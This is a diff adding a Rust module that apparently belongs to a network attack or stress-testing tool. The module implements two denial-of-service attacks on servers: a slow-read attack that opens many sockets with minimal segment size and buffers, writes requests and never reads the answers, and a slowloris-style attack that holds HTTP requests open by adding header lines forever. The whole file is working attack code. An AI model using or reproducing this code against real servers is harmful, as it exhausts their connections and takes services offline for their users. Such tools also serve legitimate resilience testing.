@@ -1,0 +1,92 @@
+//! Attacks by sockets of the kernel.
+
+use super::{Course, Target};
+use rustix::io::Errno;
+use socket2::{Domain, Socket, Type};
+use std::io::{self, ErrorKind, Write};
+use std::net::SocketAddr;
+use std::thread;
+use std::time::{Duration, Instant};
+
+/// Maximum segment size that a socket offers: the least that Linux lets a program set.
+const SEGMENT: u32 = 88;
+/// Receive buffer of a socket: the least that Linux grants is some more.
+const RECEIVE_BUFFER: usize = 2048;
+const SEND_BUFFER: usize = 16 << 10;
+/// Time between two attempts to write on all sockets.
+const PERIOD: Duration = Duration::from_millis(10);
+/// Connections that are begun in such a time.
+const CONNECTS: usize = 100;
+/// Part of a request that does not end, however often it is repeated.
+const UNFINISHED: &[u8] = b"GET /metrics HTTP/1.1\r\nA: a";
+/// Attempts without a write, one after the other, after which the server takes no more.
+const REFUSALS: u32 = 10;
+/// Time between two of these on a socket.
+const HEADER_PERIOD: Duration = Duration::from_millis(100);
+
+/// Writes requests on `count` sockets and reads no answer. Connects again where the server ends a connection.
+pub fn do_not_read(target: &Target, count: usize, course: &Course) -> io::Result<()> {
+    let requests: Vec<u8> = target.request.iter().copied().cycle().take(target.request.len().max(16 << 10)).collect();
+    let to = SocketAddr::V4(target.address);
+    write_on_all(count, PERIOD, true, course, || connect(to, true), &requests)
+}
+
+/// Begins an HTTP request on each of `count` sockets, adds to its header, and does not end it.
+pub fn half_open_requests(to: SocketAddr, count: usize, course: &Course) -> io::Result<()> {
+    write_on_all(count, HEADER_PERIOD, false, course, || connect(to, false), UNFINISHED)
+}
+
+/// Writes `bytes` on all sockets every `period`, as far as there is room, and counts the writes. The attack begins when all sockets are
+/// connected and, if `until_refused` is true, when none has had room for a time: until then its traffic would be measured.
+fn write_on_all(
+    count: usize,
+    period: Duration,
+    until_refused: bool,
+    course: &Course,
+    connect: impl Fn() -> io::Result<Socket>,
+    bytes: &[u8],
+) -> io::Result<()> {
+    let mut sockets: Vec<Option<Socket>> = (0..count).map(|_| None).collect();
+    let mut refusals = 0;
+    while course.goes_on() {
+        let mut written = 0;
+        let begun = Instant::now();
+        let mut connects = CONNECTS;
+        for place in &mut sockets {
+            match place {
+                None if connects > 0 => {
+                    connects -= 1;
+                    *place = Some(connect()?);
+                }
+                None => {}
+                Some(socket) => match socket.write(bytes) {
+                    Ok(_) => written += 1,
+                    Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+                    // The server has ended the connection.
+                    Err(_) => *place = None,
+                },
+            }
+        }
+        course.count(written);
+        refusals = if written == 0 { refusals + 1 } else { 0 };
+        if sockets.iter().all(Option::is_some) && (!until_refused || refusals >= REFUSALS) {
+            course.begin();
+        }
+        thread::sleep(period.saturating_sub(begun.elapsed()));
+    }
+    Ok(())
+}
+
+fn connect(to: SocketAddr, has_small_buffers: bool) -> io::Result<Socket> {
+    let socket = Socket::new(Domain::for_address(to), Type::STREAM.nonblocking(), None)?;
+    if has_small_buffers {
+        socket.set_tcp_mss(SEGMENT)?;
+        socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
+        socket.set_send_buffer_size(SEND_BUFFER)?;
+        socket.set_tcp_nodelay(true)?;
+    }
+    match socket.connect(&to.into()) {
+        Err(error) if error.raw_os_error() != Some(Errno::INPROGRESS.raw_os_error()) => Err(error),
+        _ => Ok(socket),
+    }
+}
